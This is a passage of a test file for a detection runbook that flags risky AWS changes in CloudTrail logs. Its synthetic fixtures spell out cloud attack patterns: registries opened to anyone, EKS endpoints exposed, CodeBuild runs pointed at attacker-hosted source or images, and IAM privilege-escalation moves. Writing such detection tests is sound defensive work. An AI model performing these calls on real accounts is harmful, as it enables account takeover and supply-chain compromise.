      repositoryName: repo,
      imageTagMutability: "IMMUTABLE",
    }),
    call(MALLORY, 9, ecr, "PutImageScanningConfiguration", {
      repositoryName: repo,
      imageScanningConfiguration: { scanOnPush: false },
    }),
    call(MALLORY, 10, ecr, "PutRegistryScanningConfiguration", { scanType: "BASIC", rules: [] }),
    call(MALLORY, 11, ecr, "PutRegistryScanningConfiguration", {
      scanType: "ENHANCED",
      rules: [
        {
          scanFrequency: "CONTINUOUS_SCAN",
          repositoryFilters: [{ filter: "*", filterType: "WILDCARD" }],
        },
      ],
    }),
    call(MALLORY, 12, ecr, "BatchDeleteImage", {
      repositoryName: repo,
      imageIds: [{ imageTag: "v1.4.1" }],
    }),
    call(MALLORY, 13, ecr, "DeleteRepository", { repositoryName: repo, force: true }),
    call(MALLORY, 14, "ecr-public.amazonaws.com", "CreateRepository", { repositoryName: "tools" }),
    call(
      MALLORY,
      15,
      ecr,
      "PutImage",
      { repositoryName: repo, imageTag: "latest" },
      { errorCode: "AccessDeniedException", errorMessage: "denied" },
    ),
    call(MALLORY, 16, ecr, "CompleteLayerUpload", {
      repositoryName: repo,
      uploadId: "u-1",
      layerDigests: ["sha256:00"],
    }),
    // 17: the endpoint opened to 0.0.0.0/0; 18: a cluster created with EKS's public default;
    // 19: opened to a company range (not listed); 20: 0.0.0.0/0 second in the list (the twin
    // compares the first only); 21: logs off, 22: on (not listed); 23: the authentication
    // mode; 24: an access entry for another account's role, 25: made cluster admin, 26: given
    // view only (not listed); 27: an outside OIDC provider; 28: the pipeline's access entry
    // (not listed); 29: the endpoint made private (not listed)
    call(MALLORY, 17, eks, "UpdateClusterConfig", {
      ...vpc({ endpointPublicAccess: true, publicAccessCidrs: ["0.0.0.0/0"] }),
    }),
    call(MALLORY, 18, eks, "CreateCluster", {
      name: "lab",
      roleArn: "arn:aws:iam::123456789012:role/eks",
      resourcesVpcConfig: { subnetIds: ["subnet-1", "subnet-2"] },
    }),
    call(MALLORY, 19, eks, "UpdateClusterConfig", {
      ...vpc({ endpointPublicAccess: true, publicAccessCidrs: ["203.0.113.0/24"] }),
    }),
    call(MALLORY, 20, eks, "UpdateClusterConfig", {
      ...vpc({ publicAccessCidrs: ["10.0.0.0/8", "0.0.0.0/0"] }),
    }),
    call(MALLORY, 21, eks, "UpdateClusterConfig", logging(false)),
    call(MALLORY, 22, eks, "UpdateClusterConfig", logging(true)),
    call(MALLORY, 23, eks, "UpdateClusterConfig", {
      name: "prod",
      accessConfig: { authenticationMode: "API_AND_CONFIG_MAP" },
    }),
    call(MALLORY, 24, eks, "CreateAccessEntry", {
      clusterName: "prod",
      principalArn: "arn:aws:iam::999988887777:role/k8s",
    }),
    call(MALLORY, 25, eks, "AssociateAccessPolicy", access("AmazonEKSClusterAdminPolicy")),
    call(MALLORY, 26, eks, "AssociateAccessPolicy", access("AmazonEKSViewPolicy")),
    call(MALLORY, 27, eks, "AssociateIdentityProviderConfig", {
      clusterName: "prod",
      oidc: {
        identityProviderConfigName: "corp",
        issuerUrl: "https://oidc.example.net",
        clientId: "kubernetes",
      },
    }),
    call(CI, 28, eks, "CreateAccessEntry", {
      clusterName: "prod",
      principalArn: "arn:aws:iam::123456789012:role/deployer",
    }),
    call(MALLORY, 29, eks, "UpdateClusterConfig", {
      ...vpc({ endpointPublicAccess: false, endpointPrivateAccess: true }),
    }),
    // 30: a project made public, 31: private (not listed); 32: a GitHub token imported; 33: a
    // build with its own buildspec, 34: privileged, 35: a batch under another role; 36: a plain
    // re-run (not listed); 37: a webhook; 38: the project's role set, 39: its description (not
    // listed); 40: the pipeline's build with a buildspec (not listed); 41: privileged mode
    // false (not listed)
    call(MALLORY, 30, cb, "UpdateProjectVisibility", {
      projectArn: "arn:aws:codebuild:us-east-1:123456789012:project/app",
      projectVisibility: "PUBLIC_READ",
    }),
    call(MALLORY, 31, cb, "UpdateProjectVisibility", {
      projectArn: "arn:aws:codebuild:us-east-1:123456789012:project/app",
      projectVisibility: "PRIVATE",
    }),
    call(MALLORY, 32, cb, "ImportSourceCredentials", {
      serverType: "GITHUB",
      authType: "PERSONAL_ACCESS_TOKEN",
      token: "HIDDEN_DUE_TO_SECURITY_REASONS",
    }),
    call(MALLORY, 33, cb, "StartBuild", { projectName: "app", buildspecOverride: BUILDSPEC }),
    call(MALLORY, 34, cb, "StartBuild", { projectName: "app", privilegedModeOverride: true }),
    call(MALLORY, 35, cb, "StartBuildBatch", {
      projectName: "app",
      serviceRoleOverride: ADMIN_ROLE,
    }),
    call(MALLORY, 36, cb, "StartBuild", { projectName: "app" }),
    call(MALLORY, 37, cb, "CreateWebhook", {
      projectName: "app",
      filterGroups: [[{ type: "EVENT", pattern: "PUSH" }]],
    }),
    call(MALLORY, 38, cb, "UpdateProject", { name: "app", serviceRole: ADMIN_ROLE }),
    call(MALLORY, 39, cb, "UpdateProject", { name: "app", description: "x" }),
    call(CI, 40, cb, "StartBuild", { projectName: "app", buildspecOverride: BUILDSPEC }),
    call(MALLORY, 41, cb, "StartBuild", { projectName: "app", privilegedModeOverride: false }),
  ];
  const at = (m: number) => `2024-06-01T10:${String(m).padStart(2, "0")}:00Z`;
  const runbook = "runbooks/build-and-registry.md";
  const step = (reports: RunReport[], id: string) => reports[0]!.steps.find((s) => s.id === id)!;
  /** A step's rows without the actor and the address. */
  const rows = (reports: RunReport[], id: string) =>
    step(reports, id).rows.map((r) => [r[0], ...r.slice(2, 6)]);

  it("lists the registries, clusters and builds opened or hijacked, none of the ordinary", async () => {
    const reports = await onJune1(runbook, events);
    for (const s of reports[0]!.steps) expect(s.status, s.id).toBe("failed");
    expect(step(reports, "registries_opened").rows.every((r) => r[1] === MAL)).toBe(true);
    expect(rows(reports, "registries_opened")).toEqual([
      [at(1), "SetRepositoryPolicy", repo, "opened to anyone", "*"],
      [at(3), "PutRegistryPolicy", null, "opened to another account", "999988887777"],
      [at(4), "SetRepositoryPolicy", repo, "opened to another account", "222233334444"],
      [at(6), "PutReplicationConfiguration", null, "replicated to another account", "999988887777"],
      [at(7), "PutImageTagMutability", repo, "tags made mutable", "MUTABLE"],
      [at(9), "PutImageScanningConfiguration", repo, "scan on push off", null],
      [at(10), "PutRegistryScanningConfiguration", null, "registry scanning off", "BASIC"],
      [at(12), "BatchDeleteImage", repo, "images deleted", "v1.4.1"],
      [at(13), "DeleteRepository", repo, "repository deleted", null],
      [at(14), "CreateRepository", "tools", "public repository created", null],
    ]);
    // the twin: not the policies naming accounts, nor replication past the first destination
    expect(step(reports, "registries_opened_insights").rowCount).toBe(7);
    expect(rows(reports, "clusters_opened")).toEqual([
      [at(17), "UpdateClusterConfig", "prod", "endpoint open to the internet", "0.0.0.0/0"],
      [at(18), "CreateCluster", "lab", "endpoint open to the internet", "0.0.0.0/0"],
      [
        at(20),
        "UpdateClusterConfig",
        "prod",
        "endpoint open to the internet",
        "10.0.0.0/8 0.0.0.0/0",
      ],
      [at(21), "UpdateClusterConfig", "prod", "control-plane logging off", "api"],
      [at(23), "UpdateClusterConfig", "prod", "authentication mode changed", "API_AND_CONFIG_MAP"],
      [
        at(24),
        "CreateAccessEntry",
        "prod",
        "access entry created",
        "arn:aws:iam::999988887777:role/k8s",
      ],
      [
        at(25),
        "AssociateAccessPolicy",
        "prod",
        "cluster admin granted",
        "arn:aws:iam::999988887777:role/k8s",
      ],
      [
        at(27),
        "AssociateIdentityProviderConfig",
        "prod",
        "identity provider associated",
        "https://oidc.example.net",
      ],
    ]);
    // the twin: not 0.0.0.0/0 second in the list
    expect(step(reports, "clusters_opened_insights").rowCount).toBe(7);
    expect(rows(reports, "builds_hijacked")).toEqual([
      [
        at(30),
        "UpdateProjectVisibility",
        "arn:aws:codebuild:us-east-1:123456789012:project/app",
        "project made public",
        "PUBLIC_READ",
      ],
      [at(32), "ImportSourceCredentials", null, "source credentials imported", "GITHUB"],
      [at(33), "StartBuild", "app", "build with its own buildspec", BUILDSPEC],
      [at(34), "StartBuild", "app", "privileged build", null],
      [at(35), "StartBuildBatch", "app", "build under another role", ADMIN_ROLE],
      [at(37), "CreateWebhook", "app", "webhook changed", null],
      [at(38), "UpdateProject", "app", "project role set", ADMIN_ROLE],
    ]);
    expect(step(reports, "builds_hijacked_insights").rowCount).toBe(7);
    expectTruth(reports, events, BUILD_STEPS);
  });

  it("moves its verdicts with the automation pattern and the partner accounts", async () => {
    // the partner named: its repository policy goes, the other account's stays
    const partner = await onJune1(runbook, events, ["--param", "partner_accounts=^222233334444$"]);
    expect(step(partner, "registries_opened").rows.map((r) => r[0])).not.toContain(at(4));
    expect(step(partner, "registries_opened").rowCount).toBe(9);
    expectTruth(partner, events, BUILD_STEPS);
    // mallory made the automation: only the pipeline's own calls are left
    const tuned = await onJune1(runbook, events, ["--param", "automation_pattern=:user/mallory$"]);
    expect(rows(tuned, "registries_opened")).toEqual([
      [at(0), "PutImage", repo, "image pushed", "v1.4.2"],
    ]);
    expect(rows(tuned, "clusters_opened")).toEqual([
      [
        at(28),
        "CreateAccessEntry",
        "prod",
        "access entry created",
        "arn:aws:iam::123456789012:role/deployer",
      ],
    ]);
    expect(rows(tuned, "builds_hijacked")).toEqual([
      [at(40), "StartBuild", "app", "build with its own buildspec", BUILDSPEC],
    ]);
    for (const id of [
      "registries_opened_insights",
      "clusters_opened_insights",
      "builds_hijacked_insights",
    ])
      expect(step(tuned, id).rowCount, id).toBe(1);
    expectTruth(tuned, events, BUILD_STEPS);
  });

  it("judges a repository policy statement by statement, as a condition naming who fences it", async () => {
    // 0: a baseline's deny of plain HTTP (a condition) beside an Allow for {"AWS": "*"} with
    // none; 1: "*" allowed under aws:SecureTransport only (fences nobody); 2: a lone Deny for
    // "*" with no condition (locks out, opens nothing); 3: "*" fenced on the caller's account;
    // 4: a Lambda service statement fenced on its source ARN beside "*" in a list, no condition
    const tls = { Bool: { "aws:SecureTransport": "false" } };
    const statements = (...list: Record<string, unknown>[]) =>
      JSON.stringify({ Version: "2012-10-17", Statement: list });
    const set = (i: number, policyText: string) =>
      call(MALLORY, i, ecr, "SetRepositoryPolicy", { repositoryName: repo, policyText });
    const policies = [
      set(
        0,
        statements(
          { Sid: "DenyHttp", Effect: "Deny", Principal: "*", Action: "ecr:*", Condition: tls },
          { Sid: "Pull", Effect: "Allow", Principal: { AWS: "*" }, Action: pull },
        ),
      ),
      set(
        1,
        statements({
          Effect: "Allow",
          Principal: "*",
          Action: pull,
          Condition: { Bool: { "aws:SecureTransport": "true" } },
        }),
      ),
      set(2, statements({ Effect: "Deny", Principal: "*", Action: "ecr:*" })),
      set(
        3,
        statements({
          Effect: "Allow",
          Principal: "*",
          Action: pull,
          Condition: { StringEquals: { "aws:PrincipalAccount": ["123456789012"] } },
        }),
      ),
      set(
        4,
        statements(
          {
            Effect: "Allow",
            Principal: { Service: "lambda.amazonaws.com" },
            Action: pull,
            Condition: {
              StringLike: { "aws:sourceArn": "arn:aws:lambda:us-east-1:123456789012:function:*" },
            },
          },
          {
            Effect: "Allow",
            Principal: { AWS: ["arn:aws:iam::123456789012:role/app", "*"] },
            Action: pull,
          },
        ),
      ),
    ];
    const reports = await onJune1(runbook, policies);
    expect(rows(reports, "registries_opened")).toEqual([
      [at(0), "SetRepositoryPolicy", repo, "opened to anyone", "*"],
      [at(1), "SetRepositoryPolicy", repo, "opened to anyone", "*"],
      [at(4), "SetRepositoryPolicy", repo, "opened to anyone", "*"],
    ]);
    // the twin reads the text: no "Condition" anywhere is only the lone Deny
    expect(step(reports, "registries_opened_insights").rows.map((r) => r[0])).toEqual([
      "2024-06-01 10:02:00.000",
    ]);
    expectTruth(reports, policies, BUILD_STEPS);
  });

  it("lists builds from another source or image and projects given another build, never the pipeline's", async () => {
    // 0: a build from a repository of theirs, 1: in an image of theirs; 2: CodePipeline's own
    // build of its artifact (not listed); 3: the project's source given an inline buildspec,
    // 4: its environment another image in privileged mode; 5: its tags (not listed)
    const PAYLOAD = "https://github.com/example-attacker/payload";
    const IMAGE = "public.ecr.aws/example-attacker/runner:latest";
    const PIPELINE = {
      type: "AssumedRole",
      principalId: "AROAEXAMPLEPIPELINE1:1717236000000",
      arn: "arn:aws:sts::123456789012:assumed-role/codepipeline-app/1717236000000",
      accountId: "123456789012",
      invokedBy: "codepipeline.amazonaws.com",
    };
    const artifact = "codepipeline-us-east-1-123456789012/app/SourceArti/a1b2c3.zip";
    const builds = [
      call(MALLORY, 0, cb, "StartBuild", {
        projectName: "app",
        sourceTypeOverride: "GITHUB",
        sourceLocationOverride: PAYLOAD,
      }),
      call(MALLORY, 1, cb, "StartBuildBatch", { projectName: "app", imageOverride: IMAGE }),
      call(
        PIPELINE,
        2,
        cb,
        "StartBuild",
        {
          projectName: "app",
          sourceVersion: `arn:aws:s3:::${artifact}`,
          sourceTypeOverride: "S3",
          sourceLocationOverride: artifact,
        },
        { sourceIPAddress: "codepipeline.amazonaws.com", userAgent: "codepipeline.amazonaws.com" },
      ),
      call(MALLORY, 3, cb, "UpdateProject", {
        name: "app",
        source: {
          type: "GITHUB",
          location: "https://github.com/example/app",
          buildspec: BUILDSPEC,
        },
      }),
      call(MALLORY, 4, cb, "UpdateProject", {
        name: "app",
        environment: {
          type: "LINUX_CONTAINER",
          image: IMAGE,
          computeType: "BUILD_GENERAL1_SMALL",
          privilegedMode: true,
        },
      }),
      call(MALLORY, 5, cb, "UpdateProject", { name: "app", tags: [{ key: "team", value: "x" }] }),
    ];
    const reports = await onJune1(runbook, builds);
    expect(rows(reports, "builds_hijacked")).toEqual([
      [at(0), "StartBuild", "app", "build from another source", PAYLOAD],
      [at(1), "StartBuildBatch", "app", "build in another image", IMAGE],
      [at(3), "UpdateProject", "app", "project build changed", BUILDSPEC],
      [at(4), "UpdateProject", "app", "project build changed", IMAGE],
    ]);
    expect(step(reports, "builds_hijacked_insights").rowCount).toBe(4);
    expectTruth(reports, builds, BUILD_STEPS);
  });

  it("lists images pushed or deleted and policies set on ECR Public as on ECR", async () => {
    // 0: an image pushed to a public repository, 1: one deleted, 2: another account let push,
    // 3: the repository deleted; 4: its catalog text changed (not listed)
    const pub = "ecr-public.amazonaws.com";
    const published = [
      call(MALLORY, 0, pub, "PutImage", {
        repositoryName: "cli",
        imageTag: "latest",
        registryId: "123456789012",
        imageManifestMediaType: "application/vnd.docker.distribution.manifest.v2+json",
      }),
      call(MALLORY, 1, pub, "BatchDeleteImage", {
        repositoryName: "cli",
        imageIds: [{ imageTag: "v2.0.0" }],
      }),
      call(MALLORY, 2, pub, "SetRepositoryPolicy", {
        repositoryName: "cli",
        policyText: policy({
          Principal: { AWS: "arn:aws:iam::999988887777:root" },
          Action: ["ecr-public:PutImage", "ecr-public:InitiateLayerUpload"],
        }),
      }),
      call(MALLORY, 3, pub, "DeleteRepository", { repositoryName: "cli", force: true }),
      call(MALLORY, 4, pub, "PutRepositoryCatalogData", {
        repositoryName: "cli",
        catalogData: { description: "x" },
      }),
    ];
    const reports = await onJune1(runbook, published);
    expect(rows(reports, "registries_opened")).toEqual([
      [at(0), "PutImage", "cli", "image pushed", "latest"],
      [at(1), "BatchDeleteImage", "cli", "images deleted", "v2.0.0"],
      [at(2), "SetRepositoryPolicy", "cli", "opened to another account", "999988887777"],
      [at(3), "DeleteRepository", "cli", "repository deleted", null],
    ]);
    // the twin: not the policy naming another account
    expect(step(reports, "registries_opened_insights").rowCount).toBe(3);
    expectTruth(reports, published, BUILD_STEPS);
  });

  it("lists an existing access entry given Kubernetes groups, not one emptied or renamed", async () => {
    // 0: the deployer's entry given the group a ClusterRoleBinding makes cluster-admin; 1: its
    // groups emptied, 2: its username only (neither listed)
    const entry = (i: number, change: Record<string, unknown>) =>
      call(MALLORY, i, eks, "UpdateAccessEntry", {
        clusterName: "prod",
        principalArn: "arn:aws:iam::123456789012:role/deployer",
        ...change,
      });
    const entries = [
      entry(0, { kubernetesGroups: ["platform-admins"] }),
      entry(1, { kubernetesGroups: [] }),
      entry(2, { username: "deployer" }),
    ];
    const reports = await onJune1(runbook, entries);
    expect(rows(reports, "clusters_opened")).toEqual([
      [
        at(0),
        "UpdateAccessEntry",
        "prod",
        "access entry groups changed",
        "arn:aws:iam::123456789012:role/deployer",
      ],
    ]);
    expect(step(reports, "clusters_opened_insights").rowCount).toBe(1);
    expectTruth(reports, entries, BUILD_STEPS);
  });

  it("lists tags left overwritable by an exclusion from immutability, not immutability itself", async () => {
    // 0: immutable but for latest (the tag the deployments pull), 1: mutable but for release-*;
    // 2: immutable (not listed)
    const mutability = (i: number, imageTagMutability: string, filter?: string) =>
      call(MALLORY, i, ecr, "PutImageTagMutability", {
        repositoryName: repo,
        imageTagMutability,
        ...(filter
          ? { imageTagMutabilityExclusionFilters: [{ filter, filterType: "WILDCARD" }] }
          : {}),
      });
    const settings = [
      mutability(0, "IMMUTABLE_WITH_EXCLUSION", "latest"),
      mutability(1, "MUTABLE_WITH_EXCLUSION", "release-*"),
      mutability(2, "IMMUTABLE"),
    ];
    const reports = await onJune1(runbook, settings);
    expect(rows(reports, "registries_opened")).toEqual([
      [
        at(0),
        "PutImageTagMutability",
        repo,
        "tags made mutable",
        "IMMUTABLE_WITH_EXCLUSION latest",
      ],
      [
        at(1),
        "PutImageTagMutability",
        repo,
        "tags made mutable",
        "MUTABLE_WITH_EXCLUSION release-*",
      ],
    ]);
    expect(step(reports, "registries_opened_insights").rowCount).toBe(2);
    expectTruth(reports, settings, BUILD_STEPS);
  });
});

describe("privilege-escalation on the escalation shapes the data sets lack", () => {
  /*
   * The shapes: requests as CloudTrail records AWS API requests, the members in lower camel case:
   * CreatePolicyVersion (policyArn, policyDocument as JSON text, setAsDefault; the response's
   * policyVersion.versionId), SetDefaultPolicyVersion (policyArn, versionId), PutUserPolicy,
   * PutGroupPolicy, PutRolePolicy (userName / groupName / roleName, policyName, policyDocument),
   * AttachUserPolicy, AttachRolePolicy (policyArn), AddUserToGroup (groupName, userName),
   * DeleteUserPermissionsBoundary, AddRoleToInstanceProfile (instanceProfileName, roleName) from
   * the IAM API Reference (a policy document as Stratus's persistence.iam-backdoor-role record
   * has one: JSON text); AssociateIamInstanceProfile and ReplaceIamInstanceProfileAssociation
   * (InstanceId / AssociationId, IamInstanceProfile.Name or .Arn) from the EC2 API Reference,
   * wrapped in `<Action>Request` as CloudTrail records EC2's newer calls (as network-paths'
   * ModifyVpcEndpointRequest); CreateStack and UpdateStack (stackName, templateURL, roleARN) from
   * the CloudFormation API Reference; CreateDevEndpoint (endpointName, roleArn, publicKey) and
   * UpdateDevEndpoint (endpointName, addPublicKeys, customLibraries) from the Glue API;
   * CreateNotebookInstance (notebookInstanceName, instanceType, roleArn) and
   * CreatePresignedNotebookInstanceUrl from the SageMaker API Reference; CreateProject (name,
   * serviceRole), UpdateProject and StartBuild (projectName, buildspecOverride) from the
   * CodeBuild API Reference; CreatePipeline (name, uniqueId), PutPipelineDefinition and
   * ActivatePipeline (pipelineId) from the Data Pipeline API Reference.
   */
  const MAL = MALLORY.arn;
  const CI = "arn:aws:sts::123456789012:assumed-role/ci-deployer/build-42";
  const SANDBOX = "arn:aws:sts::123456789012:assumed-role/dev-sandbox/eve";
  const SSO = "arn:aws:sts::123456789012:assumed-role/AWSServiceRoleForSSO/sso";
  const session = (arn: string) => ({
    type: "AssumedRole",
    principalId: "AROAEXAMPLE:s",
    arn,
    accountId: "123456789012",
    accessKeyId: "ASIAEXAMPLESESSION01",
    sessionContext: {
      sessionIssuer: {
        type: "Role",
        arn: arn.replace(":sts::", ":iam::").replace(/assumed-role\/([^/]+)\/.*/, "role/$1"),
        userName: /assumed-role\/([^/]+)\//.exec(arn)![1],
      },
    },
  });
  const ALICE = { ...MALLORY, arn: "arn:aws:iam::123456789012:user/alice", userName: "alice" };
  const POLICY = "arn:aws:iam::123456789012:policy/dev-access";
  const ADMIN_ROLE = "arn:aws:iam::123456789012:role/prod-admin";
  const doc = (statement: unknown) =>
    JSON.stringify({ Version: "2012-10-17", Statement: statement });
  const call = (
    who: Record<string, unknown>,
    i: number,
    source: string,
    name: string,
    request: Record<string, unknown> | null,
    extra: Record<string, unknown> = {},
  ) => crafted(i, who, source, name, request, { readOnly: false, ...extra });
  const iam = (
    who: Record<string, unknown>,
    i: number,
    name: string,
    request: Record<string, unknown>,
    extra: Record<string, unknown> = {},
  ) => call(who, i, "iam.amazonaws.com", name, request, extra);
  const events = [
    // 0: the pipeline's new default version (not listed); 1: every action, one statement as an
    // object; 2: PassRole among other actions, in a list, on a list of resources holding "*",
    // setAsDefault as text; 3: a version not made the default (not listed); 4: a rollback to v2
    // (no document); 5: alice's inline iam:* for bob; 6: AssumeRole on one role only and reads on
    // "*" (listed, no grants); 7: sts:* for a group; 8: refused (not listed); 9: a role's inline
    // policy (resource-modifications', not listed)
    iam(session(CI), 0, "CreatePolicyVersion", {
      policyArn: POLICY,
      policyDocument: doc([{ Effect: "Allow", Action: "*", Resource: "*" }]),
      setAsDefault: true,
    }),
    iam(
      MALLORY,
      1,
      "CreatePolicyVersion",
      {
        policyArn: POLICY,
        policyDocument: doc({ Effect: "Allow", Action: "*", Resource: "*" }),
        setAsDefault: true,
      },
      { responseElements: { policyVersion: { versionId: "v5", isDefaultVersion: true } } },
    ),
    iam(MALLORY, 2, "CreatePolicyVersion", {
      policyArn: POLICY,
      policyDocument: doc([
        { Effect: "Deny", Action: "*", Resource: "*" },
        {
          Effect: "Allow",
          Action: ["s3:GetObject", "IAM:PassRole"],
          Resource: ["arn:aws:s3:::b/*", "*"],
        },
      ]),
      setAsDefault: "TRUE",
    }),
    iam(MALLORY, 3, "CreatePolicyVersion", {
      policyArn: POLICY,
      policyDocument: doc([{ Effect: "Allow", Action: "*", Resource: "*" }]),
      setAsDefault: false,
    }),
    iam(MALLORY, 4, "SetDefaultPolicyVersion", { policyArn: POLICY, versionId: "v2" }),
    iam(ALICE, 5, "PutUserPolicy", {
      userName: "bob",
      policyName: "helper",
      policyDocument: doc([{ Effect: "Allow", Action: "iam:*", Resource: "*" }]),
    }),
    iam(MALLORY, 6, "PutGroupPolicy", {
      groupName: "devs",
      policyName: "narrow",
      policyDocument: doc([
        { Effect: "Allow", Action: "sts:AssumeRole", Resource: ADMIN_ROLE },
        { Effect: "Allow", Action: "ec2:Describe*", Resource: "*" },
      ]),
    }),
    iam(MALLORY, 7, "PutGroupPolicy", {
      groupName: "devs",
      policyName: "hop",
      policyDocument: doc([{ Effect: "Allow", Action: ["sts:*"], Resource: "*" }]),
    }),
    iam(
      MALLORY,
      8,
      "PutUserPolicy",
      { userName: "mallory", policyName: "x", policyDocument: doc([]) },
      { errorCode: "AccessDenied", errorMessage: "denied" },
    ),
    iam(MALLORY, 9, "PutRolePolicy", {
      roleName: "app",
      policyName: "x",
      policyDocument: doc([{ Effect: "Allow", Action: "*", Resource: "*" }]),
    }),
    // 10: mallory attaching a policy to itself; 11: bob put in Admins; 12: bob put in devs (not
    // listed); 13: mallory putting itself in devs; 14: bob's boundary removed; 15: the sandbox
    // role's session putting an inline policy on its own role; 16: on another role (not listed);
    // 17: the pipeline putting alice in Admins (not listed)
    iam(MALLORY, 10, "AttachUserPolicy", {
      userName: "mallory",
      policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess",
    }),
    iam(MALLORY, 11, "AddUserToGroup", { groupName: "Admins", userName: "bob" }),
    iam(MALLORY, 12, "AddUserToGroup", { groupName: "devs", userName: "bob" }),
    iam(MALLORY, 13, "AddUserToGroup", { groupName: "devs", userName: "mallory" }),
    iam(MALLORY, 14, "DeleteUserPermissionsBoundary", { userName: "bob" }),
    iam(session(SANDBOX), 15, "PutRolePolicy", {
      roleName: "dev-sandbox",
      policyName: "more",
      policyDocument: doc([{ Effect: "Allow", Action: "iam:PassRole", Resource: "*" }]),
    }),
    iam(session(SANDBOX), 16, "AttachRolePolicy", {
      roleName: "app",
      policyArn: "arn:aws:iam::aws:policy/ReadOnlyAccess",
    }),
    iam(session(CI), 17, "AddUserToGroup", { groupName: "Admins", userName: "alice" }),
    // 18-20: instance profiles; 21: a stack with a service role, 22: without (not listed);
    // 23-24: a dev endpoint and a key added, 25: libraries only (not listed); 26-27: a notebook
    // created and opened; 28: a project, 29: a build with the project's buildspec, 30: with its
    // own, 31: another service role (CodeBuild: build-and-registry's, not listed); 32-34: a
    // pipeline; 35: the pipeline's stack
    // update (not listed); 36: a function with a role (lambda-changes', not listed); 37: an
    // instance started with the admin profile
    call(MALLORY, 18, "ec2.amazonaws.com", "AssociateIamInstanceProfile", {
      AssociateIamInstanceProfileRequest: {
        InstanceId: "i-0123456789abcdef0",
        IamInstanceProfile: { Name: "prod-admin" },
      },
    }),
    call(MALLORY, 19, "ec2.amazonaws.com", "ReplaceIamInstanceProfileAssociation", {
      ReplaceIamInstanceProfileAssociationRequest: {
        AssociationId: "iip-assoc-0123456789abcdef0",
        IamInstanceProfile: { Arn: "arn:aws:iam::123456789012:instance-profile/prod-admin" },
      },
    }),
    iam(MALLORY, 20, "AddRoleToInstanceProfile", {
      instanceProfileName: "web",
      roleName: "prod-admin",
    }),
    call(MALLORY, 21, "cloudformation.amazonaws.com", "CreateStack", {
      stackName: "scratch",
      templateURL: "https://s3.amazonaws.com/b/t.yaml",
      roleARN: ADMIN_ROLE,
    }),
    call(MALLORY, 22, "cloudformation.amazonaws.com", "CreateStack", {
      stackName: "plain",
      templateURL: "https://s3.amazonaws.com/b/t.yaml",
    }),
    call(MALLORY, 23, "glue.amazonaws.com", "CreateDevEndpoint", {
      endpointName: "scratch",
      roleArn: ADMIN_ROLE,
      publicKey: "ssh-ed25519 AAAA mallory",
    }),
    call(MALLORY, 24, "glue.amazonaws.com", "UpdateDevEndpoint", {
      endpointName: "shared",
      addPublicKeys: ["ssh-ed25519 AAAA mallory"],
    }),
    call(MALLORY, 25, "glue.amazonaws.com", "UpdateDevEndpoint", {
      endpointName: "shared",
      customLibraries: { extraPythonLibsS3Path: "s3://b/lib.zip" },
    }),
    call(MALLORY, 26, "sagemaker.amazonaws.com", "CreateNotebookInstance", {
      notebookInstanceName: "scratch",
      instanceType: "ml.t3.medium",
      roleArn: ADMIN_ROLE,
    }),
    call(MALLORY, 27, "sagemaker.amazonaws.com", "CreatePresignedNotebookInstanceUrl", {
      notebookInstanceName: "research",
    }),
    call(MALLORY, 28, "codebuild.amazonaws.com", "CreateProject", {
      name: "scratch",
      serviceRole: ADMIN_ROLE,
    }),
    call(ALICE, 29, "codebuild.amazonaws.com", "StartBuild", { projectName: "web-app" }),
    call(MALLORY, 30, "codebuild.amazonaws.com", "StartBuild", {
      projectName: "web-app",
      buildspecOverride: "version: 0.2",
    }),
    call(MALLORY, 31, "codebuild.amazonaws.com", "UpdateProject", {
      name: "web-app",
      serviceRole: ADMIN_ROLE,
    }),
    call(MALLORY, 32, "datapipeline.amazonaws.com", "CreatePipeline", {
      name: "scratch",
      uniqueId: "u1",
    }),
    call(MALLORY, 33, "datapipeline.amazonaws.com", "PutPipelineDefinition", {
      pipelineId: "df-0123456789",
    }),
    call(MALLORY, 34, "datapipeline.amazonaws.com", "ActivatePipeline", {
      pipelineId: "df-0123456789",
    }),
    call(session(CI), 35, "cloudformation.amazonaws.com", "UpdateStack", {
      stackName: "web-app",
      roleARN: "arn:aws:iam::123456789012:role/cfn-deployer",
    }),
    call(MALLORY, 36, "lambda.amazonaws.com", "CreateFunction20150331", {
      functionName: "f",
      role: ADMIN_ROLE,
    }),
    call(
      MALLORY,
      37,
      "ec2.amazonaws.com",
      "RunInstances",
      { instanceType: "t3.micro", iamInstanceProfile: { name: "prod-admin" } },
      { responseElements: { instancesSet: { items: [{ instanceId: "i-0fedcba9876543210" }] } } },
    ),
    // 38: a deny-only policy mallory puts on itself (containment: listed by neither step)
    iam(MALLORY, 38, "PutUserPolicy", {
      userName: "mallory",
      policyName: "quarantine",
      policyDocument: doc({ Effect: "Deny", Action: "*", Resource: "*" }),
    }),
    // 39: IAM Identity Center's service-linked role taking a permission set's boundary off its
    // AWSReservedSSO_ role (AWS acting; sign-in-persistence lists the permission set: not listed)
    iam({ ...session(SSO), invokedBy: "sso.amazonaws.com" }, 39, "DeleteRolePermissionsBoundary", {
      roleName: "AWSReservedSSO_Developers_0123456789abcdef",
    }),
    // 40-42: wildcards IAM expands: every action as "*:*", PassRole as "iam:P*", AssumeRole as
    // "STS:Assume?ole" (any case)
    iam(MALLORY, 40, "PutUserPolicy", {
      userName: "bob",
      policyName: "all",
      policyDocument: doc({ Effect: "Allow", Action: "*:*", Resource: "*" }),
    }),
    iam(MALLORY, 41, "PutGroupPolicy", {
      groupName: "devs",
      policyName: "p",
      policyDocument: doc([{ Effect: "Allow", Action: ["s3:List*", "iam:P*"], Resource: "*" }]),
    }),
    iam(MALLORY, 42, "PutGroupPolicy", {
      groupName: "devs",
      policyName: "q",
      policyDocument: doc([{ Effect: "Allow", Action: "STS:Assume?ole", Resource: ["*"] }]),
    }),
    // 43: bob's boundary replaced by AdministratorAccess (caps nothing); 44: app's by a narrow
    // one (resource-modifications', not listed)
    iam(MALLORY, 43, "PutUserPermissionsBoundary", {
      userName: "bob",
      permissionsBoundary: "arn:aws:iam::aws:policy/AdministratorAccess",
    }),
    iam(MALLORY, 44, "PutRolePermissionsBoundary", {
      roleName: "app",
      permissionsBoundary: "arn:aws:iam::123456789012:policy/app-boundary",
    }),
    // 45: a stack set with an administration role, 46: one with the default role; 47: a stack
    // set updated without a role (not listed); 48: a Glue job created with a role, 49: redefined
    call(MALLORY, 45, "cloudformation.amazonaws.com", "CreateStackSet", {
      stackSetName: "everywhere",
      templateURL: "https://s3.amazonaws.com/b/t.yaml",
      administrationRoleARN: ADMIN_ROLE,
      executionRoleName: "AWSCloudFormationStackSetExecutionRole",
    }),
